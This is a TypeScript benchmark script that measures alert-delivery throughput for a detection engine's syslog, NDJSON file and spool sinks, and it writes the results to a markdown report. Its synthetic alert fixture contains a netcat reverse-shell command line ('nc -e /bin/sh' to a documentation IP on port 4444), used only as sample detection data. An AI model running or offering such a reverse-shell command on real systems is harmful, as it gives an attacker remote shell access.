// Alert delivery throughput. Writes docs/benchmarks/sinks.md.
// (1) formatters (pure CPU); (2) raw /dev/log-style datagrams through the unix-dgram binding and,
// for contrast, one `logger(1)` process per alert; (3) end to end through createSinks: alerts/s
// into a private rsyslogd running Debian's stock rules on the local socket (counted when the lines
// are in its auth.log), into the NDJSON file, and both at once; (4) the spool alone: append rate
// with fdatasync per group commit and without, and replay (open) rate.
import { execFileSync, spawnSync } from 'node:child_process';
import { closeSync, mkdirSync, mkdtempSync, openSync, readSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { cpus, loadavg, tmpdir, totalmem } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import type { AlertRecord } from '../src/alerts/alert-record.js';
import { createSinks, type SinksConfig } from '../src/alerts/sinks/index.js';
import { formatLocal } from '../src/alerts/sinks/local-format.js';
import { formatRfc5424 } from '../src/alerts/sinks/rfc5424.js';
import { SegmentSpool } from '../src/alerts/spool/segment-spool.js';
import { rsyslogUnavailable, startRsyslog } from '../test/support/rsyslog.js';

const N = Number(process.env.EQLD_BENCH_ALERTS ?? 5_000);
const root = mkdtempSync(join(tmpdir(), 'eqld-bench-sinks-'));
const logger = pino({ level: 'silent' });
const rows: string[][] = [];
const notes: string[] = [];

function event(i: number): Record<string, unknown> {
  return {
    '@timestamp': new Date(1_795_000_000_000 + i).toISOString(),
    event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', id: `ev-${i}` },
    host: { name: 'bench', id: 'h1', os: { type: 'linux' } },
    process: {
      pid: 4000 + (i % 1000),
      entity_id: `ent-${i}`,
      executable: '/usr/bin/nc',
      name: 'nc',
      args: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
      command_line: 'nc -e /bin/sh 203.0.113.9 4444',
      parent: {
        pid: 3999,
        entity_id: `ent-p${i}`,
        executable: '/bin/bash',
        name: 'bash',
        command_line: 'bash -i',
      },
    },
    user: { id: '0', name: 'root' },
  };
}

function alerts(n: number, prefix: string): AlertRecord[] {
  return Array.from({ length: n }, (_, i) => ({
    id: `${prefix}-${String(i).padStart(8, '0')}`,
    type: 'alert' as const,
    timestamp: new Date(1_795_000_000_000 + i).toISOString(),
    rule: {
      id: '9c951837-7d13-4b0c-be7a-f346623c8795',
      uuid: '9c951837-7d13-4b0c-be7a-f346623c8795',
      name: 'Network Connection Initiated by Suspicious SSHD Child Process',
      severity: 'medium' as const,
      riskScore: 47,
      code: 'persistence_ssh_netcon',
      buildingBlock: false,
    },
    summary: `Network Connection Initiated by Suspicious SSHD Child Process: /usr/bin/nc (pid ${4000 + i}, child of /bin/bash pid 3999 from sshd) -> 203.0.113.9:4444`,
    entityIds: [`ent-p${i}`, `ent-${i}`],
    document: {
      kibana: { alert: { uuid: `${prefix}-${i}` } },
      eqld: { matched_events: [event(i), event(i + 1)] },
    },
  }));
}

const now = () => Number(process.hrtime.bigint()) / 1e6;
const rate = (n: number, ms: number) => Math.round((n / ms) * 1000);

function bench(name: string, n: number, fn: () => void): void {
  const t0 = now();
  fn();
  const ms = now() - t0;
  rows.push([name, String(n), rate(n, ms).toLocaleString('en-US'), (ms / 1000).toFixed(2)]);
  process.stdout.write(`${name}: ${rate(n, ms)}/s\n`);
}

async function benchAsync(name: string, n: number, fn: () => Promise<void>): Promise<void> {
  const t0 = now();
  await fn();
  const ms = now() - t0;
  rows.push([name, String(n), rate(n, ms).toLocaleString('en-US'), (ms / 1000).toFixed(2)]);
  process.stdout.write(`${name}: ${rate(n, ms)}/s\n`);
}

const counted = new Map<string, { offset: number; lines: number }>();

/** Waits until `file` holds at least n lines, reading only what was appended since the last look. */
async function waitLines(file: string, n: number, timeoutMs = 60_000): Promise<void> {
  const end = Date.now() + timeoutMs;
  const st = counted.get(file) ?? { offset: 0, lines: 0 };
  counted.set(file, st);
  const buf = Buffer.alloc(1 << 20);
  for (;;) {
    try {
      const fd = openSync(file, 'r');
      for (;;) {
        const got = readSync(fd, buf, 0, buf.length, st.offset);
        if (got <= 0) break;
        let i = buf.indexOf(0x0a);
        while (i >= 0 && i < got) {
          st.lines++;
          i = buf.indexOf(0x0a, i + 1);
        }
        st.offset += got;
      }
      closeSync(fd);
    } catch {
      // not created yet
    }
    if (st.lines >= n) return;
    if (Date.now() > end) throw new Error(`only ${st.lines} of ${n} lines in ${file} after ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 10));
  }
}

async function main(): Promise<void> {
  const sample = alerts(N, 'fmt');
  bench('format RFC 5424 (remote)', N, () => {
    for (const a of sample) formatRfc5424(a, { facility: 10, hostname: 'bench', pid: 1 });
  });
  bench('format syslog(3) local', N, () => {
    for (const a of sample) formatLocal(a, { facility: 10, pid: 1 });
  });

  const unavailable = rsyslogUnavailable();
  let rs: Awaited<ReturnType<typeof startRsyslog>> | undefined;
  if (unavailable) notes.push(`rsyslog rows skipped: ${unavailable}`);
  else rs = await startRsyslog({ dir: join(root, 'rsyslog'), stockConfig: true });

  if (rs) {
    const sock = rs.socketPath as string;
    const require = createRequire(import.meta.url);
    const dgram = require('unix-dgram') as {
      createSocket(t: string): {
        send(b: Buffer, o: number, l: number, p: string, cb: (e?: Error) => void): void;
        close(): void;
      };
    };
    const s = dgram.createSocket('unix_dgram');
    const bufs = sample.map((a) => Buffer.from(formatLocal(a, { facility: 10, pid: process.pid })));
    let before = (await rs.lines()).length;
    await benchAsync('raw unix-dgram sendto -> rsyslog auth.log (delivered)', N, async () => {
      for (const b of bufs) {
        for (;;) {
          let err: Error | undefined;
          s.send(b, 0, b.length, sock, (e) => {
            err = e;
          });
          if (!err) break;
          await new Promise((r) => setTimeout(r, 1)); // EAGAIN: rsyslog's queue is full
        }
      }
      await waitLines(rs.logFile, before + N);
    });
    s.close();

    const M = 200;
    await benchAsync('one logger(1) process per alert (alternative)', M, async () => {
      for (const b of bufs.slice(0, M)) {
        spawnSync('logger', ['-u', sock, '-t', 'eqld', '-p', 'authpriv.warning', b.toString().slice(40)]);
      }
    });

    before = (await rs.lines()).length;
    const set = await createSinks(
      { spoolDir: join(root, 'spool-local'), syslogLocal: { socketPath: sock, facility: 'authpriv' } },
      logger,
    );
    const local = alerts(N, 'local');
    await benchAsync('createSinks: syslog-local -> stock rsyslog (delivered)', N, async () => {
      for (const a of local) await set.write(a);
      await waitLines(rs.logFile, before + N);
    });
    await set.close();
  }

  const fileCfg = (name: string): SinksConfig => ({
    spoolDir: join(root, `spool-${name}`),
    file: { path: join(root, `${name}.ndjson`) },
  });
  {
    const set = await createSinks(fileCfg('file'), logger);
    const as = alerts(N, 'file');
    await benchAsync('createSinks: NDJSON file (delivered)', N, async () => {
      for (const a of as) await set.write(a);
      await waitLines(join(root, 'file.ndjson'), N);
    });
    await set.close();
  }
  {
    const set = await createSinks(fileCfg('file-burst'), logger);
    const as = alerts(N, 'burst');
    await benchAsync('createSinks: NDJSON file, writes not awaited one by one (burst)', N, async () => {
      await Promise.all(as.map((a) => set.write(a)));
      await waitLines(join(root, 'file-burst.ndjson'), N);
    });
    await set.close();
  }
  if (rs) {
    const before = (await rs.lines()).length;
    const set = await createSinks(
      {
        ...fileCfg('both'),
        syslogLocal: { socketPath: rs.socketPath as string, facility: 'authpriv' },
      },
      logger,
    );
    const as = alerts(N, 'both');
    await benchAsync('createSinks: syslog-local + file (both delivered)', N, async () => {
      for (const a of as) await set.write(a);
      await waitLines(join(root, 'both.ndjson'), N);
      await waitLines(rs.logFile, before + N);
    });
    await set.close();
    await rs.stop();
  }

  for (const fsync of ['always', 'never'] as const) {
    const dir = join(root, `spool-only-${fsync}`);
    const sp = new SegmentSpool<AlertRecord>({ dir, fsync });
    await sp.open();
    const as = alerts(N, `sp-${fsync}`);
    await benchAsync(`spool append, fsync ${fsync}, one at a time`, N, async () => {
      for (const a of as) await sp.append(a);
    });
    await sp.close();
    const again = new SegmentSpool<AlertRecord>({ dir });
    let count = 0;
    await benchAsync(`spool replay (open, read back and parse the fsync-${fsync} spool)`, N, async () => {
      await again.open();
      for (let batch = await again.readNext(256); batch.length > 0; batch = await again.readNext(256)) {
        count += batch.length;
      }
    });
    if (count !== N) throw new Error(`replay returned ${count} of ${N}`);
    await again.close();
  }
  {
    const sp = new SegmentSpool<AlertRecord>({ dir: join(root, 'spool-group') });
    await sp.open();
    const as = alerts(N, 'grp');
    await benchAsync('spool append, fsync always, concurrent (group commit)', N, async () => {
      await Promise.all(as.map((a) => sp.append(a)));
    });
    await sp.close();
  }
  rmSync(root, { recursive: true, force: true });

  const sh = (c: string, a: string[]) => {
    try {
      return execFileSync(c, a, { encoding: 'utf8' }).trim();
    } catch {
      return 'unavailable';
    }
  };
  const md = [
    '## Alert sinks (bench/sinks.bench.ts)',
    '',
    `- machine: ${cpus()[0]?.model ?? 'unknown'} x ${cpus().length}, ${(totalmem() / 2 ** 30).toFixed(1)} GiB, kernel ${sh('uname', ['-r'])}, node ${process.version}, rsyslogd ${/\d+\.\d+\.\d+/.exec(sh('/usr/sbin/rsyslogd', ['-v']))?.[0] ?? 'unavailable'}; load average at the end ${loadavg()
      .map((l) => l.toFixed(1))
      .join(' ')} (other work on the machine slows every row)`,
    `- date: ${new Date().toISOString()}`,
    '- command: `npm run bench -- sinks` (or `npx vite-node bench/sinks.bench.ts`; EQLD_BENCH_ALERTS sets N)',
    `- alerts: ${N} records like the SSHD-child rule's (two matched events in the document, ~3 KB as JSON); spool in ${tmpdir()}; rsyslog is a private instance on Debian's stock rules; net.unix.max_dgram_qlen = ${sh('cat', ['/proc/sys/net/unix/max_dgram_qlen'])}`,
    '- "delivered" rows stop the clock when the last record is in the destination file; every createSinks row includes the write-ahead spool (fdatasync per group commit)',
    '',
    '| what | records | per second | seconds |',
    '| --- | --- | --- | --- |',
    ...rows.map((r) => `| ${r.join(' | ')} |`),
    '',
    ...notes.map((n) => `- ${n}`),
  ];
  mkdirSync('docs/benchmarks', { recursive: true });
  writeFileSync('docs/benchmarks/sinks.md', `${md.join('\n')}\n`);
  process.stdout.write('wrote docs/benchmarks/sinks.md\n');
}

await main();
